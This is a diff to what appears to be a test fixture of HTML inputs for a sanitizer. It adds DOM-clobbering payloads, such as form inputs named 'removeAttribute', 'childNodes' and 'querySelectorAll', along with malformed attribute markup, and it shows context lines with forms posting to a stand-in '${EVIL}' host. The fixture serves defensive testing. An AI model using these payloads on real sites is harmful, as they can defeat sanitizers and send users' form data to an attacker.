@@ -109,6 +109,16 @@ const acts = [
   `<img id="x" name="x"><form id="x" action="${EVIL}/post"><input name="action"></form>`,
 ]
 
+/** Things that stand in the way of the script that shows them. */
+const obstacles = [
+  `<body style="x"">`,
+  `<p a"b='c' "'<=1>x</p>`,
+  `<form><input name="getAttributeNames"><input name="removeAttribute"></form>`,
+  `<form><input name="attributes"><button id="childNodes">x</button><img name="isEqualNode"></form>`,
+  `<form class="a" name="body"><input name="classList"><input name="remove"><input id="nodeName"></form>`,
+  `<img name="documentElement"><img name="querySelectorAll"><img name="createTreeWalker">`,
+]
+
 const forms = [
   `<form action="${EVIL}/post" method="post"><input name="a" value="1"><button>x</button></form>`,
   `<form action="${EVIL}/get"><button>x</button></form>`,
@@ -124,6 +134,7 @@ const all: readonly string[] = [
   ...urls.map((url) => `<form action="${url}"><button>x</button></form>`),
   ...loads,
   ...acts,
+  ...obstacles,
   ...forms,
 ]
 
